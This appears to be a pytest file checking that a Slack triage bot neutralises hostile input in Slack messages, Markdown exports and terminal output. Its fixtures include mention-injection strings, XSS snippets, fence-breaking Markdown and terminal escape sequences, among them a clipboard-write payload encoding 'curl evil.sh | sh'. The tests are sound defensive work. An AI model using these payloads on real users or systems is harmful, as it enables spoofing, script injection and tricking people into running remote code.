"""Hostile input through every sink: Slack (every message the app builds), Markdown export, terminal.

Slack: pasted text must never ping a channel, mention a user or make a link. Markdown: a value
must not forge table rows, inject HTML or break out of its code block. Terminal: escape
sequences (title, clipboard), control characters and bidi overrides never reach the screen.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any, Iterator

from bot.render.ticket import render_ticket
from bot.slack import blocks as B
from bot.slack.alerts import SlackSink, alert_blocks
from bot.slack.app import web_client
from bot.slack.modals import ticket_modal, ticket_summary
from bot.tickets import Ticket
from tests.test_slack import SUB, command, interactive, make_app, signed

ROOT = Path(__file__).resolve().parent.parent
PW = "Fake-Passw0rd-42"
PINGS = "<!channel> <!here> <@U0EVIL> <#C0EVIL> <!subteam^S0EVIL> <https://evil.example/x|click here> & <endpoint>"
HOSTILE_LINE = f"ResourceNotReady: User container has crashed or terminated {PINGS} password={PW} \u202edetacilpmoc\u202c \x1b]0;t\x07"
ALLOWED = {"<!subteam^S0ONCALL>", "<@U1>"}  # the only live entities: built by the app from IDs it was given


def mrkdwn_strings(obj: Any, top: bool = True) -> Iterator[str]:
    """Every string Slack parses as mrkdwn: mrkdwn text objects, and a message's top-level `text`."""
    if isinstance(obj, dict):
        if obj.get("type") == "mrkdwn" and isinstance(obj.get("text"), str):
            yield obj["text"]
        if top:
            for key in ("text", "initial_comment"):
                if isinstance(obj.get(key), str):
                    yield obj[key]
        for value in obj.values():
            yield from mrkdwn_strings(value, top=False)
    elif isinstance(obj, list):
        for value in obj:
            yield from mrkdwn_strings(value, top=False)


def assert_inert(payloads: list[Any]) -> None:
    texts = [s for p in payloads for s in mrkdwn_strings(p)]
    assert texts, "nothing was checked"
    for s in texts:
        live = set(re.findall(r"<[^<>]*>", s))
        assert live <= ALLOWED, f"live entity {live - ALLOWED} in {s!r}"
        assert not re.search(r"&(?!amp;|lt;|gt;)", s), f"bare & in {s!r}"
    everything = json.dumps(payloads, ensure_ascii=False)
    assert PW not in everything
    bad = re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", everything)
    assert not bad, everything[max(0, bad.start() - 300): bad.start() + 20]


def test_every_slack_message_escapes_hostile_input(tmp_path):
    from tests.fake_slack import FakeSlack

    slack = FakeSlack()
    try:
        app, store = make_app(slack, tmp_path)
        acks = []

        def send(body: str) -> None:
            r = app.dispatch(signed(body))
            assert r.status == 200
            if r.body:
                acks.append(json.loads(r.body))

        # slash commands: a diagnosis, bad verbs and arguments, a ticket, a playbook, help
        send(command(slack, f"diagnose {HOSTILE_LINE}"))
        (answer,) = slack.wait_for("/response_url/cmd")
        assert "&lt;!channel&gt;" in json.dumps(answer), "the hostile text must be shown, escaped"
        for text in (f"<!channel> {PINGS}", f"ids customvision {PINGS}", f"playbook {PINGS}", f"logs azureml <!here> {PINGS}",
                     "help", "ticket list", f"ticket draft {HOSTILE_LINE}"):
            send(command(slack, text))
        # buttons: switch language, draft a ticket (modal), submit it (posted to the support channel)
        buttons = {e["action_id"]: e for b in answer["blocks"] if b["type"] == "actions" for e in b["elements"]}
        for action in ("switch_lang", "draft_ticket"):
            send(interactive({"type": "block_actions", "user": {"id": "U1"}, "team": {"id": "T1"}, "channel": {"id": "C1"},
                              "trigger_id": "trig-1", "container": {"type": "message", "message_ts": "1.1"},
                              "response_url": f"{slack.base}/response_url/act",
                              "actions": [{"type": "button", "action_id": action, "value": buttons[action]["value"], "action_ts": "1"}]}))
        slack.wait_for("/api/views.open")  # a loading view at once, then the ticket
        (opened,) = slack.wait_for("/api/views.update")
        view = opened["view"]
        typed = {"f_subscription_id": SUB, "f_instance_count": "1"}  # valid where the gate checks the shape; hostile elsewhere
        values = {b["block_id"]: {"v": {"type": "plain_text_input", "value": typed.get(b["block_id"], f"{PINGS} x1")}}
                  for b in view["blocks"] if b["type"] == "input"}
        send(interactive({"type": "view_submission", "user": {"id": "U1"}, "team": {"id": "T1"}, "trigger_id": "t",
                          "view": {**view, "id": "V1", "state": {"values": values}}}))
        # a message shortcut on a hostile message, and App Home
        send(interactive({"type": "message_action", "callback_id": "diagnose_message", "trigger_id": "1.2.3", "user": {"id": "U1"},
                          "team": {"id": "T1"}, "channel": {"id": "C9"}, "response_url": f"{slack.base}/response_url/sc",
                          "message": {"ts": "1699999999.000200", "text": HOSTILE_LINE}}))
        event = {"token": "x", "team_id": "T1", "api_app_id": "A1", "type": "event_callback", "event_id": "Ev1", "event_time": 1,
                 "event": {"type": "app_home_opened", "user": "U1", "channel": "D1", "tab": "home"}}
        app.dispatch(signed(json.dumps(event), content_type="application/json"))
        slack.wait_for("/api/views.publish")
        slack.wait_for("/api/chat.postMessage", 2)  # the support post and the shortcut's thread reply

        # alerts, built from a hostile failure, and a thread reply naming the acknowledging user
        alert = {"fingerprint": "fp", "title": f"Failure {PINGS}", "service": "azureml", "target": f"t {PINGS}", "kind": "job",
                 "key": f"k {PINGS}", "status": f"Failed {PINGS}", "state": "open", "mention": "S0ONCALL", "acked_by": "U1",
                 "acked_at": "now", "ticket_id": 3,
                 "failure": {"message": HOSTILE_LINE, "target": "t", "fields": {"job_name": PINGS},
                             "matches": [{"evidence": [{"line": 1, "text": HOSTILE_LINE}], "steps": [f"run az ml job show -n <job> {PINGS}"]}]}}
        sink = SlackSink(web_client("xoxb-test-token", base_url=f"{slack.base}/api/"))
        sink.reply("C1", "1.1", f":eyes: Acknowledged by {{user}} {PINGS}", "U1")
        sink.reply("C1", "1.1", f":warning: triage cannot read target: {PINGS}")
        built = [{"blocks": alert_blocks(alert), "text": B.fallback(f"Failure: {alert['title']}")}]
        ticket = Ticket(fingerprint="f", service="azureml-endpoint", title=f"T {PINGS}", lang="en", id=1,
                        fields={"endpoint": PINGS, "error_message": HOSTILE_LINE}, evidence=[HOSTILE_LINE])
        built += [{"blocks": ticket_summary(ticket)}, ticket_modal(ticket, "C1"),
                  {"blocks": B.text_message("t", HOSTILE_LINE)}, {"blocks": B.diagnose_message(_no_match(), diagnosis_id=None)}]

        calls = [body for _, body in slack.calls]
        assert any("alert_actions" in json.dumps(b) for b in built)
        assert_inert(acks + calls + built)
        mention = next(s for s in mrkdwn_strings(built[0]) if "S0ONCALL" in s)
        assert mention.startswith("<!subteam^S0ONCALL> ") and "<@U1>" in mention  # the app's own mentions stay live
        reply = next(b["text"] for p, b in slack.calls if p == "/api/chat.postMessage" and "Acknowledged" in b.get("text", ""))
        assert reply.startswith(":eyes: Acknowledged by <@U1> &lt;!channel&gt;")
    finally:
        slack.close()


def _no_match():
    from bot.diagnosis import DiagnoseResult

    return DiagnoseResult([], 10, 1, "en")


def test_mrkdwn_helper_escapes_text_and_keeps_only_validated_entities():
    assert B.mrkdwn("a & b <!here> <x>") == "a &amp; b &lt;!here&gt; &lt;x&gt;"
    assert B.mrkdwn(["hi ", B.user_ref("U123ABC"), " & ", B.user_ref("<!channel>")]) == "hi <@U123ABC> &amp; &lt;!channel&gt;"
    assert B.group_ref("S0X|<!here>") == "S0X|<!here>" and not isinstance(B.group_ref("S0X|<!here>"), B.Entity)
    assert B.mrkdwn(f"password={PW}") == "password=[REDACTED]"


# --- Markdown export --------------------------------------------------------------------------

FORGE = "eastus |\n| Forged row | yes |\n| Another | <img src=x onerror=alert(1)> |"
FENCE_BREAK = "Traceback\n```\n# Forged heading after a closed fence\n````\n<script>alert(1)</script>"


def test_markdown_export_escapes_cells_html_and_fences():
    t = Ticket(fingerprint="f", service="azureml-endpoint", lang="en", id=9,
               title="Deploy failed\n# Forged heading <b>bold</b> | x",
               fields={"region": FORGE, "endpoint": "ep|<script>x</script>", "error_message": FENCE_BREAK + "\x1b]52;c;eA==\x07\u202e",
                       "log_excerpt": "line with ``` and ```` inside", "deployment": "blue"},
               evidence=["line 3: ```` fence attempt", "line 4: <!-- comment"], tried=[{"step": "retry <i>", "outcome": "a|b"}])
    md = render_ticket(t, "md")
    assert "\x1b" not in md and "\u202e" not in md and "\x07" not in md
    lines = md.splitlines()
    # no raw HTML outside code blocks, no forged heading
    outside = _outside_fences(lines)
    assert not any(re.search(r"<(?!br>)[a-z!/]", line) for line in outside), [line for line in outside if "<" in line]
    assert sum(1 for line in outside if line.startswith("# ")) == 1
    # every table row keeps exactly two cells
    rows = [line for line in outside if line.startswith("|")]
    assert rows and all(len(re.split(r"(?<!\\)\|", line)) == 4 for line in rows), rows
    assert any("Forged row" in line for line in rows if line.startswith("| Region |"))  # the value is all in its own cell
    # each code block: its fence longer than any backtick run inside, its body verbatim
    blocks = _fenced_blocks(lines)
    assert FENCE_BREAK in blocks and "line with ``` and ```` inside" in blocks
    assert "line 3: ```` fence attempt\nline 4: <!-- comment" in blocks
    # the plain-text export shows the values as typed
    text = render_ticket(t, "text")
    assert "ep|<script>x</script>" in text and "retry <i>" in text


def _outside_fences(lines: list[str]) -> list[str]:
    out, fence = [], ""
    for line in lines:
        if fence:
            if line.startswith(fence) and not line.strip("`"):
                fence = ""
            continue
        if line.startswith("```"):
            fence = line[: len(line) - len(line.lstrip("`"))]
            continue
        out.append(line)
    return out


def _fenced_blocks(lines: list[str]) -> list[str]:
    blocks, fence, body = [], "", []
    for line in lines:
        if fence:
            if line == fence:
                blocks.append("\n".join(body))
                fence, body = "", []
            else:
                longest = max((len(r) for r in re.findall(r"`+", line)), default=0)
                assert longest < len(fence), f"a run of {longest} backticks inside a {len(fence)}-backtick fence: {line!r}"
                body.append(line)
        elif line.startswith("```"):
            fence = line
            assert not line.strip("`"), line
    assert not fence, "a code block was never closed"
    return blocks


# --- terminal -------------------------------------------------------------------------------

OSC_TITLE = "\x1b]0;pwned\x07"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
CSI = "\x1b[2J\x1b[1;31m"
BIDI = "\u202etxt.exe\u202c \u2066isolate\u2069"
C1 = "\x9b2J\x9d0;title\x9c"
NASTY = [OSC_TITLE, OSC_CLIPBOARD, CSI, BIDI, C1, "\x00\x08\x7f"]


def cli(*args: str, stdin: str | None = None, cwd: Path | None = None) -> subprocess.CompletedProcess[bytes]:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    env.pop("TRIAGE_CONFIG", None)
    return subprocess.run([sys.executable, "-m", "bot", *args], input=stdin.encode() if stdin is not None else None,
                          capture_output=True, env=env, cwd=cwd, timeout=120)


def assert_clean(out: bytes) -> None:
    text = out.decode("utf-8")
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text), repr(text[:300])


def test_terminal_output_has_no_escape_sequences_or_bidi(tmp_path):
    paste = "\n".join(["ResourceNotReady: User container has crashed or terminated " + OSC_TITLE]
                      + [f"ModuleNotFoundError: No module named 'sklearn' {s}" for s in NASTY])
    log = tmp_path / "nasty.log"
    log.write_text(paste, encoding="utf-8")
    toml = tmp_path / "triage.toml"
    toml.write_text(f'[store]\npath = "{tmp_path / "t.db"}"\n', encoding="utf-8")
    runs = [
        cli("diagnose", str(log)),
        cli("diagnose", "--json", "-", stdin=paste),
        cli("--config", str(toml), "ticket", "draft", "text", str(log)),
        cli("--config", str(toml), "ticket", "export", "1", "--format", "text"),
        cli("--config", str(toml), "ticket", "show", "1"),
        cli("playbooks", "show", f"azureml.{OSC_TITLE}{BIDI}"),  # an error quoting the argument
        cli(f"diagnose{OSC_TITLE}"),  # click's own "no such command" error
    ]
    assert runs[0].returncode == 0 and b"sklearn" in runs[0].stdout
    assert runs[2].returncode == 0, runs[2].stderr
    assert b"sklearn" in runs[3].stdout
    for r in runs:
        assert r.returncode in (0, 1, 2), r.stderr
        assert_clean(r.stdout)
        assert_clean(r.stderr)


def test_safe_removes_whole_sequences_and_keeps_text():
    from bot.terminal import safe

    assert safe(f"a{OSC_TITLE}b{OSC_CLIPBOARD}c{CSI}d") == "abcd"  # no payload left behind
    assert safe(f"x{BIDI}y") == "xtxt.exe isolatey"
    assert safe(f"{C1}z\x00\x08\x7f") == "z"
    assert safe("line 1\r\nline 2\tcol\nキー：なし") == "line 1\nline 2\tcol\nキー：なし"


def test_slack_audit_redacts_before_it_cuts(tmp_path):
    from tests.fake_slack import FakeSlack

    secret = "Tst8Q~FakeClientSecretForUnitTests.0_~0_"  # unlabelled (31-34 chars after Q~): recognisable only whole
    slack = FakeSlack()
    try:
        app, store = make_app(slack, tmp_path)
        lead = "diagnose ResourceNotReady: User container has crashed or terminated "
        text = lead + "x" * (500 - len(lead) - 16) + " " + secret  # the audit keeps 500 characters: 15 of the secret
        app.dispatch(signed(command(slack, text)))
        slack.wait_for("/response_url/cmd")
        args = store.audit_rows()[0]["args"]
        assert len(args) <= 500 and secret[:12] not in args, args[-40:]
    finally:
        slack.close()
